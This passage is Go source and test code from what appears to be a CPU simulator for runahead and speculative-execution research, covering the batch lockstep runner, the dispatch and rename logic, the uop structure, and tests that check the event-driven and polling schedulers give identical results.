						t.Fatalf("seed %d: commit %d diverges: %+v vs %+v", seed, i, plainRecs[i], tracedRecs[i])
					}
				}
				totalEvents += nEvents
			}
		})
	}
	if totalEvents == 0 {
		t.Fatal("tracer recorded no events — the hook is dead")
	}
}

// TestTracerSurvivesReset pins the hook contract shared with SetCommitHook
// and SetObserver: an installed tracer stays across Reset.
func TestTracerSurvivesReset(t *testing.T) {
	opt := proggen.DefaultOptions()
	opt.SecretBytes = 64
	progA := proggen.Generate(3, opt)
	progB := proggen.Generate(4, opt)
	c := New(DefaultConfig(), progA)
	n := 0
	c.SetTracer(func(TraceEvent) { n++ })
	if err := c.Run(20_000_000); err != nil {
		t.Fatal(err)
	}
	first := n
	if first == 0 {
		t.Fatal("no events before Reset")
	}
	c.Reset(progB)
	if err := c.Run(20_000_000); err != nil {
		t.Fatal(err)
	}
	if n == first {
		t.Fatal("tracer lost across Reset")
	}
}

// TestTraceStageStrings keeps the stage and replay-reason vocabularies
// printable (the trace encoders render them into files users load).
func TestTraceStageStrings(t *testing.T) {
	stages := []TraceStage{TraceFetch, TraceDispatch, TraceIssue, TraceReplay,
		TraceComplete, TraceCommit, TracePseudoRetire, TraceSquash}
	seen := map[string]bool{}
	for _, s := range stages {
		str := s.String()
		if str == "" || str == "?" || seen[str] {
			t.Fatalf("stage %d renders %q", s, str)
		}
		seen[str] = true
	}
	reasons := []ReplayReason{ReplayNone, ReplayROBHead, ReplayMemOrd, ReplaySLGate}
	seen = map[string]bool{}
	for _, r := range reasons {
		str := r.String()
		if str == "" || str == "?" || seen[str] {
			t.Fatalf("reason %d renders %q", r, str)
		}
		seen[str] = true
	}
}
