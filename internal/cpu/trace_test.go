package cpu

import (
	"strings"
	"testing"

	"specrun/internal/asm"
)

func TestSamplerSamplesPipeline(t *testing.T) {
	prog := stallProgram(func(b *asm.Builder) { b.NopN(400) })
	c := New(DefaultConfig(), prog)
	var samples []Sample
	c.SetSampler(10, func(s Sample) { samples = append(samples, s) })
	if err := c.Run(testBudget); err != nil {
		t.Fatal(err)
	}
	if len(samples) == 0 {
		t.Fatal("sampler produced no samples")
	}
	sawRunahead := false
	var last uint64
	for i, s := range samples {
		if i > 0 && s.Cycle <= last {
			t.Fatal("trace cycles not monotonic")
		}
		last = s.Cycle
		if s.ROB < 0 || s.ROB > DefaultConfig().ROBSize {
			t.Fatalf("ROB occupancy %d out of range", s.ROB)
		}
		if s.Mode == ModeRunahead {
			sawRunahead = true
		}
	}
	if !sawRunahead {
		t.Fatal("trace never observed runahead mode despite episodes")
	}
}

func TestCSVSampler(t *testing.T) {
	prog := stallProgram(func(b *asm.Builder) { b.NopN(300) })
	c := New(DefaultConfig(), prog)
	var sb strings.Builder
	c.SetSampler(25, CSVSampler(&sb))
	if err := c.Run(testBudget); err != nil {
		t.Fatal(err)
	}
	out := sb.String()
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) < 3 {
		t.Fatalf("CSV too short:\n%s", out)
	}
	if !strings.HasPrefix(lines[0], "cycle,mode,rob,") {
		t.Fatalf("bad header %q", lines[0])
	}
	if !strings.Contains(out, "runahead") {
		t.Fatal("CSV never recorded runahead mode")
	}
	for _, line := range lines[1:] {
		if got := strings.Count(line, ","); got != 10 {
			t.Fatalf("row %q has %d commas, want 10", line, got)
		}
	}
}

func TestSamplerDisable(t *testing.T) {
	prog := stallProgram(func(b *asm.Builder) { b.NopN(100) })
	c := New(DefaultConfig(), prog)
	n := 0
	c.SetSampler(1, func(Sample) { n++ })
	c.SetSampler(0, nil)
	if err := c.Run(testBudget); err != nil {
		t.Fatal(err)
	}
	if n != 0 {
		t.Fatal("disabled sampler still fired")
	}
}
