package cpu

import (
	"fmt"
	"sync"
	"sync/atomic"

	"specrun/internal/asm"
)

// Batch owns N pooled machines of one configuration and advances them in
// lockstep: one pass over the live lanes per cycle, with the per-lane hot
// scalars (cycle limit, result, live index) in struct-of-arrays form.  One
// RunPrograms call replaces N independent Run loops, amortizing the per-call
// bookkeeping and keeping the lanes' working sets resident together.
//
// Results are bit-identical to running each program on its own machine:
// machines share nothing, so lane count and tick interleaving are
// unobservable.  A Batch is not safe for concurrent use; SetParallel shards
// the lanes across goroutines internally.
type Batch struct {
	cfg  Config
	cpus []*CPU

	// Struct-of-arrays per-lane bookkeeping for the lockstep loop.
	limit []uint64 // absolute cycle limit per lane
	errs  []error  // per-lane result of the current RunPrograms call
	idx   []int    // live-lane scratch (compacted as lanes finish)

	par  int // lane shards advanced concurrently (1 = serial)
	idxs [][]int
	wg   sync.WaitGroup
}

// NewBatch builds a batch of `lanes` machines sharing cfg.  Machines are
// created lazily on first use of each lane, so a Batch is cheap until run.
func NewBatch(cfg Config, lanes int) *Batch {
	if lanes < 1 {
		lanes = 1
	}
	return &Batch{
		cfg:   cfg,
		cpus:  make([]*CPU, lanes),
		limit: make([]uint64, lanes),
		errs:  make([]error, lanes),
		idx:   make([]int, 0, lanes),
		par:   1,
	}
}

// Lanes reports the batch width.
func (b *Batch) Lanes() int { return len(b.cpus) }

// CPU returns lane i's machine, or nil if the lane has never run.
func (b *Batch) CPU(i int) *CPU { return b.cpus[i] }

// SetParallel advances the lanes in n contiguous shards on separate
// goroutines (clamped to the lane count; n <= 1 keeps the serial loop).
// Results are unchanged — lanes are independent — but a parallel RunPrograms
// performs a handful of small allocations per call for the goroutines, where
// the serial loop performs none.
func (b *Batch) SetParallel(n int) {
	if n > len(b.cpus) {
		n = len(b.cpus)
	}
	if n < 1 {
		n = 1
	}
	b.par = n
}

// RunPrograms runs progs[i] on lane i (at most Lanes programs), each under
// the given cycle budget, and returns one error per program: nil for a clean
// HALT, ErrMaxCycles or an ErrDeadlock-wrapping error otherwise, exactly as
// Run would report.  Machines are Reset-reused across calls; per-lane Stats
// remain readable via CPU(i) until the next call.  The returned slice is
// owned by the batch and overwritten by the next RunPrograms.
func (b *Batch) RunPrograms(progs []*asm.Program, budget uint64) []error {
	n := len(progs)
	if n > len(b.cpus) {
		panic(fmt.Sprintf("cpu: RunPrograms with %d programs on a %d-lane batch", n, len(b.cpus)))
	}
	for i, p := range progs {
		if b.cpus[i] == nil {
			b.cpus[i] = New(b.cfg, p)
		} else {
			b.cpus[i].Reset(p)
		}
		b.limit[i] = b.cpus[i].cycle + budget
		b.errs[i] = nil
	}
	if b.par <= 1 || n < 2 {
		simCycles.Add(lockstep(b.cpus[:n], b.limit, b.errs, b.idx[:0]))
		return b.errs[:n]
	}

	// Contiguous lane shards, one goroutine each.  Each shard gets its own
	// live-list scratch (kept across calls) and writes disjoint errs entries.
	par := b.par
	if par > n {
		par = n
	}
	for len(b.idxs) < par {
		b.idxs = append(b.idxs, make([]int, 0, len(b.cpus)))
	}
	var total atomic.Uint64
	per := (n + par - 1) / par
	for s := 0; s < par; s++ {
		lo := s * per
		hi := lo + per
		if lo >= n {
			break
		}
		if hi > n {
			hi = n
		}
		b.wg.Add(1)
		go func(s, lo, hi int) {
			defer b.wg.Done()
			total.Add(lockstep(b.cpus[lo:hi], b.limit[lo:hi], b.errs[lo:hi], b.idxs[s][:0]))
		}(s, lo, hi)
	}
	b.wg.Wait()
	simCycles.Add(total.Load())
	return b.errs[:n]
}

// RunLockstep advances the given machines in lockstep, each under the same
// cycle budget, writing one Run-equivalent result per machine into errs
// (which must be at least len(ms) long).  Nil machines are skipped with a
// nil result.  Unlike Batch, the machines may have different configurations
// and are owned by the caller — campaign drivers use this to tick their
// per-config cached machines as one group.
func RunLockstep(ms []*CPU, budget uint64, errs []error) {
	if len(errs) < len(ms) {
		panic("cpu: RunLockstep errs shorter than machines")
	}
	limit := make([]uint64, len(ms))
	for i, c := range ms {
		if c != nil {
			limit[i] = c.cycle + budget
		}
	}
	simCycles.Add(lockstep(ms, limit, errs[:len(ms)], make([]int, 0, len(ms))))
}

// lockstep is the shared inner loop: one pass over the live lanes per cycle,
// retiring lanes into errs as they halt, deadlock or exhaust their budget.
// Exit conditions and error values mirror run() exactly — after each step the
// deadlock window is checked first, then HALT, then the cycle limit — so a
// lockstep lane is indistinguishable from a solo Run.  Returns the total
// cycles advanced across all lanes (the caller's simCycles contribution).
func lockstep(ms []*CPU, limit []uint64, errs []error, idx []int) uint64 {
	var total uint64
	for i, c := range ms {
		if c == nil {
			continue
		}
		errs[i] = nil
		if c.halted {
			c.stats.Cycles = c.cycle
			continue
		}
		if c.cycle >= limit[i] {
			c.stats.Cycles = c.cycle
			errs[i] = ErrMaxCycles
			continue
		}
		idx = append(idx, i)
	}
	for len(idx) > 0 {
		live := idx[:0]
		for _, i := range idx {
			c := ms[i]
			c.step()
			total++
			if c.cycle-c.lastProgress > progressWindow {
				c.stats.Cycles = c.cycle
				errs[i] = fmt.Errorf("%w at cycle %d (pc %#x, mode %d)", ErrDeadlock, c.cycle, c.fetchPC, c.mode)
				continue
			}
			if c.halted {
				c.stats.Cycles = c.cycle
				continue
			}
			if c.cycle >= limit[i] {
				c.stats.Cycles = c.cycle
				errs[i] = ErrMaxCycles
				continue
			}
			live = append(live, i)
		}
		idx = live
	}
	return total
}
