package cpu

import (
	"specrun/internal/isa"
	"specrun/internal/runahead"
)

// dispatchPhase renames and dispatches up to DispatchWidth uops per cycle
// from the front buffer into the ROB, issue queue and load/store queues,
// subject to the Table 1 resource limits.  NOPs consume only a ROB entry —
// the property §5.3 of the paper uses to measure the transient window.
func (c *CPU) dispatchPhase(now uint64) {
	for n := 0; n < c.cfg.DispatchWidth && c.frontQ.len() > 0; n++ {
		u := c.frontQ.front()
		if u.dispatchable > now {
			return
		}
		if c.rob.full() {
			return
		}
		pd := u.pd
		k := pd.Kind

		// FENCE serialises: it dispatches only into an empty ROB.  During
		// runahead mode a fence is a speculation barrier instead: the
		// machine does not pre-execute past it (prefetching loads across a
		// memory fence would violate its ordering intent), so runahead
		// stops here until the episode ends.
		if k == isa.KindFence {
			if c.mode == ModeRunahead {
				c.ra.fetchBarrier = true
				c.fetchBlocked = true
				return
			}
			if !c.rob.empty() {
				return
			}
		}

		// Precise runahead: non-slice compute is dropped at dispatch and its
		// destination poisoned; loads, stores and control always execute.
		if c.mode == ModeRunahead && c.cfg.Runahead.Kind == runahead.KindPrecise &&
			k == isa.KindALU && !pd.Serializing && !c.rdt.InSlice(u.pc) {
			c.frontQ.popFront()
			c.dropPRE(u, now)
			continue
		}

		needIQ := !(k == isa.KindNop || k == isa.KindFence || k == isa.KindHalt)
		if needIQ && c.iqLen() >= c.cfg.IQSize {
			return
		}
		if u.isLoad() && c.lqLen() >= c.cfg.LQSize {
			return
		}
		if u.isStore() && c.sqLen() >= c.cfg.SQSize {
			return
		}
		if !c.claimPRF(u) {
			return
		}

		c.rename(u)
		c.rob.push(u)
		c.frontQ.popFront()
		c.stats.Dispatched++
		c.dispatchedNow++
		if c.traceFn != nil {
			c.traceEmit(TraceDispatch, u)
		}
		if c.mode == ModeRunahead && u.seq > c.ra.maxSeq {
			c.ra.maxSeq = u.seq
		}
		if needIQ {
			if c.pollSched {
				c.iq = append(c.iq, u)
			} else {
				u.inIQ = true
				c.iqUsed++
				if u.pendIssue == 0 {
					c.readyPush(u) // all issue-gating operands captured at rename
				}
			}
		} else {
			// NOP / FENCE / HALT complete without backend resources.
			u.stage = stDone
			u.doneAt = now
			if c.traceFn != nil {
				c.traceEmit(TraceComplete, u)
			}
		}
		if u.isLoad() {
			if c.pollSched {
				c.lq = append(c.lq, u)
			} else {
				c.lqUsed++
			}
		}
		if u.isStore() {
			if c.pollSched {
				c.sq = append(c.sq, u)
			} else {
				c.sqr.push(u)
				if c.sqUnknown == 0 {
					c.sqUnknown = u.seq // youngest store; watermark keeps the oldest
				}
			}
		}
	}
}

// iqLen/lqLen/sqLen report backend queue occupancy under whichever scheduler
// is active (the event-driven one tracks counts; the polling reference keeps
// the queues as slices).
func (c *CPU) iqLen() int {
	if c.pollSched {
		return len(c.iq)
	}
	return c.iqUsed
}

func (c *CPU) lqLen() int {
	if c.pollSched {
		return len(c.lq)
	}
	return c.lqUsed
}

func (c *CPU) sqLen() int {
	if c.pollSched {
		return len(c.sq)
	}
	return c.sqr.len()
}

// rename captures ready source values (from the architectural state or
// completed producers) and records in-flight producers otherwise — under
// the event-driven scheduler, registering on each in-flight producer's
// waiter list so completion pushes the value here instead of this uop
// polling for it.  It then claims the destination mapping and, for control
// instructions, snapshots the RAT for recovery.
func (c *CPU) rename(u *uop) {
	pd := u.pd
	u.nsrc = int(pd.NSrc)
	isStoreKind := pd.Kind == isa.KindStore
	for i := 0; i < u.nsrc; i++ {
		r := pd.Srcs[i]
		o := &u.srcs[i]
		o.reg = r
		if p := c.rat.lookup(r); p != nil {
			if p.stage == stDone {
				o.val, o.val2, o.inv = p.result, p.result2, p.resINV
				o.ready = true
			} else {
				o.producer = p
				o.prodSeq = p.seq
				if !c.pollSched {
					c.addWaiter(p, u, int8(i))
					// A store's data operand (always last) does not gate
					// issue: the STA half issues on address operands alone.
					if !(isStoreKind && i == u.nsrc-1) {
						u.pendIssue++
					}
				}
			}
			continue
		}
		o.val, o.val2, o.inv, o.taint = c.arch.read(r)
		o.ready = true
	}
	u.dest = pd.Dest
	if u.dest != isa.NoReg && !u.dest.IsZero() {
		c.rat.set(u.dest, u)
	}
	if u.isCtl() {
		u.ratCP = c.snapshotRAT()
	}
}

// dropPRE implements precise runahead's dispatch filter: the uop occupies a
// ROB slot (for pseudo-retirement ordering) but consumes no issue queue,
// functional unit or physical register; its destination is poisoned.
func (c *CPU) dropPRE(u *uop, now uint64) {
	u.dest = u.pd.Dest
	if u.dest != isa.NoReg && !u.dest.IsZero() {
		c.rat.set(u.dest, u)
	}
	u.stage = stDone
	u.doneAt = now
	u.resINV = true
	c.rob.push(u)
	c.stats.Dispatched++
	c.dispatchedNow++
	c.stats.DroppedPRE++
	if c.traceFn != nil {
		// A dropped uop occupies a ROB slot but never issues: it dispatches
		// and completes (poisoned) in the same breath.
		c.traceEmit(TraceDispatch, u)
		c.traceEmit(TraceComplete, u)
	}
	if u.seq > c.ra.maxSeq {
		c.ra.maxSeq = u.seq
	}
}

// claimPRF reserves a physical register for the uop's destination, modelling
// the Table 1 rename resources (80 int / 40 fp / 40 xmm; the architectural
// registers are subtracted as permanently allocated).
func (c *CPU) claimPRF(u *uop) bool {
	switch u.pd.DestClass {
	case isa.ClassInt:
		if u.pd.Dest.IsZero() {
			return true
		}
		if c.intPRFUsed >= c.cfg.IntPRF-isa.NumIntRegs {
			return false
		}
		c.intPRFUsed++
	case isa.ClassFP:
		if c.fpPRFUsed >= c.cfg.FPPRF-isa.NumFPRegs {
			return false
		}
		c.fpPRFUsed++
	case isa.ClassVec:
		if c.vecPRFUsed >= c.cfg.VecPRF-isa.NumVecRegs {
			return false
		}
		c.vecPRFUsed++
	default:
		return true
	}
	u.prfClaimed = true
	return true
}

func (c *CPU) releasePRF(u *uop) {
	if !u.prfClaimed {
		return
	}
	u.prfClaimed = false
	switch u.pd.DestClass {
	case isa.ClassInt:
		c.intPRFUsed--
	case isa.ClassFP:
		c.fpPRFUsed--
	case isa.ClassVec:
		c.vecPRFUsed--
	}
}
