package cpu

import (
	"fmt"
	"reflect"
	"testing"

	"specrun/internal/asm"
	"specrun/internal/proggen"
	"specrun/internal/runahead"
)

// --- scheduler equivalence suite ---
//
// The event-driven scheduler (sched.go) must be cycle-for-cycle identical to
// the polling reference (sched_poll.go): same Stats (including Cycles,
// Issued, LoadBlockedSQ and SLWaits, which count per-cycle attempts), same
// committed instruction stream.  Any divergence is a wakeup/index
// bookkeeping bug.

// runBoth executes prog under both schedulers and returns (event, poll)
// machines plus their commit streams.
func runBothScheds(t *testing.T, cfg Config, prog *asm.Program, budget uint64) (ev, po *CPU, evRecs, poRecs []CommitRecord) {
	t.Helper()
	collect := func(poll bool) (*CPU, []CommitRecord) {
		c := New(cfg, prog)
		if poll {
			c.SetPollingReference(true)
		}
		var recs []CommitRecord
		c.SetCommitHook(func(r CommitRecord) { recs = append(recs, r) })
		if err := c.Run(budget); err != nil {
			t.Fatalf("run (poll=%v): %v", poll, err)
		}
		return c, recs
	}
	ev, evRecs = collect(false)
	po, poRecs = collect(true)
	return ev, po, evRecs, poRecs
}

// assertEquivalent compares full statistics and commit streams.
func assertEquivalent(t *testing.T, ev, po *CPU, evRecs, poRecs []CommitRecord) {
	t.Helper()
	if !reflect.DeepEqual(*ev.Stats(), *po.Stats()) {
		t.Fatalf("stats diverge:\n event: %+v\n  poll: %+v", *ev.Stats(), *po.Stats())
	}
	if len(evRecs) != len(poRecs) {
		t.Fatalf("commit stream length: event %d, poll %d", len(evRecs), len(poRecs))
	}
	for i := range evRecs {
		if evRecs[i] != poRecs[i] {
			t.Fatalf("commit %d diverges: event %+v, poll %+v", i, evRecs[i], poRecs[i])
		}
	}
}

func equivalenceConfigs() map[string]Config {
	tiny := DefaultConfig()
	tiny.ROBSize, tiny.IQSize, tiny.LQSize, tiny.SQSize = 48, 8, 6, 6
	tiny.IntPRF, tiny.FPPRF, tiny.VecPRF = 48+32, 40+16, 40+16
	secure := DefaultConfig()
	secure.Secure.Enabled = true
	skipinv := DefaultConfig()
	skipinv.Runahead.SkipINVBranch = true
	vector := DefaultConfig()
	vector.Runahead.Kind = runahead.KindVector
	baseline := DefaultConfig()
	baseline.Runahead.Kind = runahead.KindNone
	return map[string]Config{
		"default":  DefaultConfig(),
		"baseline": baseline,
		"tiny":     tiny,
		"secure":   secure,
		"skipinv":  skipinv,
		"vector":   vector,
	}
}

func TestSchedulerEquivalenceRandomPrograms(t *testing.T) {
	opt := proggen.DefaultOptions()
	opt.Gadgets = true // dynamic store/load addresses stress the SQ index
	for name, cfg := range equivalenceConfigs() {
		t.Run(name, func(t *testing.T) {
			for seed := int64(1); seed <= 12; seed++ {
				prog := proggen.Generate(seed, opt)
				ev, po, er, pr := runBothScheds(t, cfg, prog, 20_000_000)
				t.Run(fmt.Sprintf("seed%d", seed), func(t *testing.T) {
					assertEquivalent(t, ev, po, er, pr)
				})
			}
		})
	}
}

// A Reset machine must stay on its selected scheduler and remain equivalent.
func TestSchedulerEquivalenceAcrossReset(t *testing.T) {
	opt := proggen.DefaultOptions()
	a := proggen.Generate(101, opt)
	b := proggen.Generate(202, opt)
	cfg := DefaultConfig()
	run := func(c *CPU, prog *asm.Program) Stats {
		c.Reset(prog)
		if err := c.Run(20_000_000); err != nil {
			t.Fatalf("run: %v", err)
		}
		return *c.Stats()
	}
	ev := New(cfg, a)
	po := New(cfg, a)
	po.SetPollingReference(true)
	for _, prog := range []*asm.Program{a, b, a} {
		se, sp := run(ev, prog), run(po, prog)
		if !reflect.DeepEqual(se, sp) {
			t.Fatalf("stats diverge after reset:\n event: %+v\n  poll: %+v", se, sp)
		}
	}
}

// --- store-queue watermark / line-index corner cases ---

// sqProgram runs src under both schedulers and asserts equivalence plus a
// set of expected final register values.
func sqProgram(t *testing.T, cfg Config, src string, want map[int]uint64) {
	t.Helper()
	prog, err := asm.Parse("sq", src)
	if err != nil {
		t.Fatal(err)
	}
	ev, po, er, pr := runBothScheds(t, cfg, prog, testBudget)
	assertEquivalent(t, ev, po, er, pr)
	for r, v := range want {
		if got := ev.IntReg(r); got != v {
			t.Errorf("r%d = %#x, want %#x", r, got, v)
		}
	}
	if ev.Stats().LoadBlockedSQ == 0 {
		t.Error("expected the program to exercise LoadBlockedSQ, got 0 blocked attempts")
	}
}

// A load partially overlapped by an older store must stall behind it (no
// partial forwarding) and still read the merged bytes after retirement.
func TestSQPartialOverlapBlocks(t *testing.T) {
	sqProgram(t, noRunaheadConfig(), `
		.data 0x100000
		buf: .zero 64
		start:
		movi r1, buf
		movi r2, 0x1111222233334444
		st   [r1 + 0], r2       ; 8-byte store at buf
		movi r3, 0xaa
		stb  [r1 + 6], r3       ; overlaps one byte of the first store
		ld   r4, [r1 + 0]       ; partially covered by [r1+6]: must wait
		ldb  r5, [r1 + 6]       ; fully covered by the byte store: forwards
		halt`, map[int]uint64{
		4: 0x11aa222233334444,
		5: 0xaa,
	})
}

// A load whose bytes are disjoint from every older store in the same cache
// line must not block on them (the line chain filters by byte overlap), but
// an unknown-address store older than the load blocks it regardless of line.
func TestSQSameLineDisjointBytes(t *testing.T) {
	prog, err := asm.Parse("sq", `
		.data 0x100000
		buf: .zero 128
		start:
		movi r1, buf
		movi r2, 77
		st   [r1 + 0], r2
		st   [r1 + 8], r2
		ld   r3, [r1 + 16]      ; same line, disjoint bytes: free to issue
		ld   r4, [r1 + 8]       ; covered: forwards 77
		halt`)
	if err != nil {
		t.Fatal(err)
	}
	ev, po, er, pr := runBothScheds(t, noRunaheadConfig(), prog, testBudget)
	assertEquivalent(t, ev, po, er, pr)
	if ev.IntReg(3) != 0 || ev.IntReg(4) != 77 {
		t.Fatalf("r3=%d r4=%d, want 0 and 77", ev.IntReg(3), ev.IntReg(4))
	}
}

// 16-byte stores forward whole or by lane; loads covered by the second lane
// must see lane 1 (the PR 3 fuzz regression), across both schedulers.
func TestSQVectorLaneEquivalence(t *testing.T) {
	prog, err := asm.Parse("sq", `
		.data 0x100000
		buf: .zero 64
		src: .u64 0x0102030405060708
		     .u64 0x1112131415161718
		start:
		movi r1, src
		movi r2, buf
		vld  v1, [r1 + 0]
		vst  [r2 + 0], v1
		ld   r3, [r2 + 0]       ; lane 0
		ld   r4, [r2 + 8]       ; lane 1 (must not forward zero)
		ldb  r5, [r2 + 9]       ; byte inside lane 1
		vld  v2, [r2 + 0]       ; 16-byte load forwards both lanes
		halt`)
	if err != nil {
		t.Fatal(err)
	}
	ev, po, er, pr := runBothScheds(t, noRunaheadConfig(), prog, testBudget)
	assertEquivalent(t, ev, po, er, pr)
	if got := ev.IntReg(3); got != 0x0102030405060708 {
		t.Errorf("lane0 r3 = %#x", got)
	}
	if got := ev.IntReg(4); got != 0x1112131415161718 {
		t.Errorf("lane1 r4 = %#x", got)
	}
	if got := ev.IntReg(5); got != 0x17 {
		t.Errorf("lane-1 byte r5 = %#x", got)
	}
	if v := ev.VecReg(2); v[0] != 0x0102030405060708 || v[1] != 0x1112131415161718 {
		t.Errorf("v2 = %#x:%#x", v[0], v[1])
	}
}

// Wrong-path stores with unresolved addresses block younger wrong-path
// loads; the squash must tear the stores out of the ring, the line index and
// the watermark so correct-path execution proceeds and the machines agree.
func TestSQSquashTeardown(t *testing.T) {
	prog, err := asm.Parse("sq", `
		.data 0x100000
		flag: .u64 0
		buf:  .zero 256
		start:
		movi r1, buf
		movi r6, 21
		st   [r1 + 64], r6
		movi r2, flag
		movi r7, 100
	train:                          ; train the branch taken
		ld   r3, [r2 + 0]           ; flag = 0 -> branch taken
		bne  r3, r0, wrong
		addi r7, r7, -1
		bne  r7, r0, train
		movi r4, 1
		st   [r2 + 0], r4           ; flip the flag
		clflush [r2 + 0]            ; make the re-read slow to resolve
		ld   r3, [r2 + 0]
		beq  r3, r0, done           ; mispredicted: wrong path runs stores
		ld   r9, [r1 + 64]          ; correct path: must read 21
		halt
	wrong:
		halt
	done:
		mul  r5, r3, r3             ; slow address ingredient
		st   [r1 + r5], r6          ; wrong-path store, address unknown a while
		ld   r8, [r1 + 64]          ; wrong-path load blocked by it
		halt`)
	if err != nil {
		t.Fatal(err)
	}
	ev, po, er, pr := runBothScheds(t, noRunaheadConfig(), prog, testBudget)
	assertEquivalent(t, ev, po, er, pr)
	if got := ev.IntReg(9); got != 21 {
		t.Fatalf("r9 = %d, want 21", got)
	}
}

// INV-address stores during runahead never resolve an address; once they
// complete they must stop blocking younger runahead loads (watermark
// advance past an INV-done store) and the episode must behave identically
// under both schedulers.
func TestSQInvAddressStoreRunahead(t *testing.T) {
	prog, err := asm.Parse("sq", `
		.data 0x100000
		buf:  .zero 4096
		.align 64
		cold: .zero 64
		start:
		movi r1, buf
		movi r2, cold
		movi r6, 5
		st   [r1 + 8], r6
		clflush [r2 + 0]
		ld   r3, [r2 + 0]           ; memory miss: triggers runahead
		add  r4, r3, r1             ; INV address ingredient
		st   [r4 + 0], r6           ; runahead INV-address store
		ld   r5, [r1 + 8]           ; younger load: must unblock after the INV store completes
		add  r7, r5, r6
		halt`)
	if err != nil {
		t.Fatal(err)
	}
	cfg := DefaultConfig()
	ev, po, er, pr := runBothScheds(t, cfg, prog, testBudget)
	assertEquivalent(t, ev, po, er, pr)
	if ev.Stats().RunaheadEpisodes == 0 {
		t.Fatal("program did not trigger runahead")
	}
	if got := ev.IntReg(7); got != 10 {
		t.Fatalf("r7 = %d, want 10", got)
	}
}

// Whitebox: the event scheduler's in-flight list must never hold duplicate
// or stale pointers.  The runahead stalling load completes *outside*
// writeback (enterRunahead poisons it to stDone) and is recycled by commit;
// a writeback phase that retained non-issued entries would keep the freed
// pointer, and the pool's LIFO reuse would re-insert the same pointer as a
// younger uop — a mis-ordered duplicate that can flip same-cycle recovery
// order.  Found by review; pinned here.
func TestInflightHoldsNoDuplicatesOrCompleted(t *testing.T) {
	opt := proggen.DefaultOptions()
	opt.Gadgets = true
	for seed := int64(1); seed <= 8; seed++ {
		prog := proggen.Generate(seed, opt)
		c := New(DefaultConfig(), prog)
		seen := make(map[*uop]struct{}, 64)
		for i := 0; i < 200_000 && !c.Halted(); i++ {
			c.step()
			clear(seen)
			lastSeq := uint64(0)
			for _, u := range c.inflight {
				if _, dup := seen[u]; dup {
					t.Fatalf("seed %d cycle %d: duplicate uop pointer (seq %d) in inflight", seed, c.cycle, u.seq)
				}
				seen[u] = struct{}{}
				if u.seq < lastSeq {
					t.Fatalf("seed %d cycle %d: inflight out of age order (%d after %d)", seed, c.cycle, u.seq, lastSeq)
				}
				lastSeq = u.seq
				if !u.squashed && u.stage == stDone {
					t.Fatalf("seed %d cycle %d: completed uop (seq %d) retained in inflight", seed, c.cycle, u.seq)
				}
			}
		}
		if c.Stats().RunaheadEpisodes == 0 {
			t.Fatalf("seed %d: no runahead episodes; invariant not exercised", seed)
		}
	}
}

// Whitebox: the watermark and line chains must track store lifecycle —
// dispatch sets it, address resolution advances it, commit and squash
// maintain the ring and index eagerly.
func TestSQWatermarkWhitebox(t *testing.T) {
	prog, err := asm.Parse("sq", `
		.data 0x100000
		buf: .zero 64
		start:
		movi r1, buf
		movi r2, 9
		st   [r1 + 0], r2
		st   [r1 + 8], r2
		halt`)
	if err != nil {
		t.Fatal(err)
	}
	c := New(DefaultConfig(), prog)
	sawUnknown, sawKnownChain := false, false
	for i := 0; i < 10_000 && !c.Halted(); i++ {
		c.step()
		if c.sqUnknown != 0 {
			sawUnknown = true
		}
		if c.sqr.len() > 0 && c.sqUnknown == 0 {
			// All live stores have resolved addresses: each must be linked
			// into the chain of the line it writes.
			for j := 0; j < c.sqr.len(); j++ {
				st := c.sqr.at(j)
				if !st.addrValid || !st.sqLinked {
					continue
				}
				found := false
				for n := c.sqLineIdx[c.hier.LineAddr(st.addr)]; n != nil; n = n.next {
					if n.u == st {
						found = true
					}
				}
				if !found {
					t.Fatalf("store seq %d (addr %#x) missing from its line chain", st.seq, st.addr)
				}
				sawKnownChain = true
			}
		}
	}
	if !c.Halted() {
		t.Fatal("program did not halt")
	}
	if !sawUnknown {
		t.Error("watermark never set while store addresses were unresolved")
	}
	if !sawKnownChain {
		t.Error("never observed a resolved store in its line chain")
	}
	if c.sqr.len() != 0 || c.sqUnknown != 0 || len(c.sqLineIdx) != 0 {
		t.Fatalf("SQ state leaks after halt: len=%d watermark=%d index=%d",
			c.sqr.len(), c.sqUnknown, len(c.sqLineIdx))
	}
}
