package cpu

import (
	"specrun/internal/branch"
	"specrun/internal/isa"
	"specrun/internal/secure"
)

// uop stage values.
const (
	stDispatched uint8 = iota // in ROB, waiting in the issue queue
	stIssued                  // executing on a functional unit / memory
	stDone                    // result available, awaiting retirement
)

// uop is one dynamic instruction in flight.
//
// uops are pooled: the CPU recycles them at commit and after squash
// compaction, so the steady-state tick loop allocates nothing.  A recycled
// uop may still be referenced by stale pointers (RAT entries, RAT
// checkpoints, operand producer links); every such reference carries the seq
// it expects, and readers validate `ptr.seq == expected` before trusting the
// fields.  Sequence numbers are never reused, so a recycled-and-reused uop
// can never alias an old reference — a mismatch means the producer committed,
// and its value is available from the architectural state instead.
type uop struct {
	seq  uint64
	pc   uint64
	inst isa.Inst
	pd   *isa.Predecoded // uop template, points into the CPU's per-PC cache

	// Front end.
	fetchedAt    uint64
	dispatchable uint64 // earliest rename/dispatch cycle (models the 6-stage front end)
	predTaken    bool
	predTarget   uint64 // next-PC chosen at fetch
	phtIdx       int
	hasBPCP      bool
	bpCP         branch.Checkpoint
	ratCP        *rat // checkpoint for control instructions (pooled)

	// Renamed sources.
	srcs [4]operand
	nsrc int
	dest isa.Reg

	// Execution state.
	stage    uint8
	doneAt   uint64
	result   uint64 // scalar result / lane 0
	result2  uint64 // lane 1 for vector ops
	resINV   bool
	resTaint secure.TaintSet

	// Memory.
	addr        uint64
	addrValid   bool
	storeVal    uint64
	storeVal2   uint64
	storeINV    bool
	dataPending bool  // STA/STD split: address resolved, data still in flight
	missLevel   uint8 // mem.Level of the access that served this load
	fwdFromSQ   bool

	// Control resolution.
	actualTaken  bool
	actualTarget uint64
	unresolved   bool // INV-source branch in runahead: never resolves (SPECRUN)

	// Bookkeeping.
	squashed   bool
	prfClaimed bool
	raEpisode  uint64 // runahead episode the uop was fetched in (0 = normal mode)
	scopeN     int    // secure mode: scope opened by this branch

	// Event-driven scheduler state (see sched.go).  wHead/wTail chain the
	// waiter chunks listing the consumers to wake when this uop's result
	// becomes available; pendIssue counts the source operands still in
	// flight that gate issue (for stores, address operands only — the data
	// operand is tracked by its own waiter and captured by the STD wakeup).
	// inIQ/inReady mirror queue membership so squash teardown can maintain
	// the occupancy counters eagerly.
	wHead, wTail *waiterChunk
	pendIssue    int8
	inIQ         bool
